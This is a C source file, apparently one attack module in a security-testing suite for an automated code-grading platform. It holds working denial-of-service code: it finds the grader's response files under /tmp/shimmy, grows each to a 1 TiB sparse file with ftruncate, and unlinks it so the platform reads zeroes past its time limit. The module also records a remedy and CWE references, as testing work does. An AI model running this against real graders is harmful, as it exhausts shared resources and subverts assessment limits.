// SPDX-License-Identifier: MIT
/*
 * Goal:  the platform waits longer than the exercise allows.
 * Means: a response of one tebibyte. A file may be as long as one says: what was never written
 *        takes no room and reads as zeroes, and no limit of the disk is met. The shim reads the
 *        file that it has open to its end, after the clocks of the submission. The name goes to
 *        another file, since the grader would make this one short again.
 *
 *     shim: descriptor --> file: 0 0 0 0 ... 1 TiB          grader: name --> a new file
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <glob.h>
#include <unistd.h>

#define LENGTH ((off_t)1 << 40) /* not one block of it is allocated */

static int lengthen(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	int r = fd < 0 ? -1 : ftruncate(fd, LENGTH);

	close(fd);
	return r ? r : unlink(path);
}

static enum claim run(const struct brief *b)
{
	glob_t found;
	int r = -1;

	submit("0");
	attempting(b);
	if (glob("/tmp/shimmy/*/response-data-*", GLOB_NOSORT, NULL, &found))
		return denied("/tmp/shimmy");
	for (size_t i = 0; i < found.gl_pathc; i++)
		r = lengthen(found.gl_pathv[i]);
	globfree(&found);
	return r ? denied("the response file") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "the platform reads zeroes for as long as it is let",
	.means = "a sparse response file of 1 TiB, by ftruncate(2)",
	.oracle = "usage:time",
	.grader = GRADER_FILE,
	.seconds = 5,
	.attack_id = "T1499.003, CWE-377, CWE-770",
	.remedy = "a response in a folder that is not the student's user's; read no more than an "
		  "answer may have",
	.refs = (const char *const[]){ "ftruncate(2)", "RLIMIT_FSIZE in getrlimit(2)", NULL },
	.run = run,
};
